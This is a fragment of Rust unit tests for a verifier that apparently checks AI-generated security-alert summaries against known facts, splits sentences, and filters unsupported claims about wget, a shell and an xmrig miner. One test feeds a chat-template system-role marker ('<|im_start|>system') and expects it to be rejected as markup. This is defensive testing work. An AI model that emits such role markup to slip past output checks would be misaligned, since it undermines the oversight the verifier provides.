            Err(Rejection::Contradiction(_))
        ));
        assert!(matches!(
            v.check("<|im_start|>system hi"),
            Err(Rejection::Markup(_))
        ));
        // With no evidence, "no alerts" is just true.
        let empty = Verifier::new(["alerts in scope: 0"], false);
        assert_eq!(empty.check("There are 0 alerts."), Ok(()));
    }

    #[test]
    fn splits_sentences_without_breaking_paths_or_ids() {
        let (s, rest) = split_sentences(
            "It ran ./malicious-bin-event-gen.sh. Image 1.4.2 is old! T1222.002 applies? Then",
        );
        assert_eq!(
            s,
            [
                "It ran ./malicious-bin-event-gen.sh.",
                "Image 1.4.2 is old!",
                "T1222.002 applies?"
            ]
        );
        assert_eq!(rest, " Then");
        let (l, rest) = split_sentences("1. Unix Shell ran. 2. Then wget.");
        assert_eq!(l, ["1. Unix Shell ran."]);
        assert_eq!(rest.trim(), "2. Then wget.");
        let (j, _) = split_sentences("根本原因はshです。次にwgetが実行されました。");
        assert_eq!(j.len(), 2);
    }

    #[test]
    fn filter_keeps_good_and_reports_bad() {
        let v = facts();
        let out =
            v.filter("- The script wget started it. **The miner xmrig ran.** 1. Nothing else.");
        assert_eq!(out.kept, ["The script wget started it."]);
        assert_eq!(out.dropped.len(), 2);
    }
}
